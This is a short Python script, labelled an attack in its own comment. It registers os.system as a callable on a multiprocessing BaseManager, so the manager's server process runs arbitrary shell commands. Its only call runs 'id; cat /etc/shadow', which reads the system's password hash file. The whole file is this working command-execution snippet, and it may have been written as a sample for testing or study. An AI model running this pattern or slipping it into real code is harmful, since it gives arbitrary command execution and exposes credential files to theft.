# attack: register os.system as a callable on a BaseManager, so the manager's server process runs the shell command
import os
from multiprocessing.managers import BaseManager


class Tools(BaseManager):
    pass


Tools.register("run", callable=os.system)

if __name__ == "__main__":
    with Tools() as m:
        m.run("id; cat /etc/shadow")
